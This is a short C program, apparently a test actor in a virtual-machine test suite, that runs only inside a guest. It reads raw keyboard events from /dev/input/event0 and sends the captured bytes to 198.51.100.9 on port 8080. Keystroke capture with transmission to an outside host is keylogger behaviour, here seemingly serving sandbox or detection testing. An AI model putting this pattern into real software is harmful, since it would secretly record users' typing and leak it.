#include "tests/vm/actors/actor.h"

/* Waits for keys, and sends what it got. */
int
main(void)
{
	char keys[64] = "nothing";
	int fd;

	actor_only_in_guest();
	fd = open("/dev/input/event0", O_RDONLY | O_NONBLOCK);
	for (int i = 0; i < 10; i++) {
		(void)!read(fd, keys, sizeof(keys));
		(void)usleep(100000);
	}
	actor_send("198.51.100.9", 8080, keys, sizeof(keys));
	return 0;
}
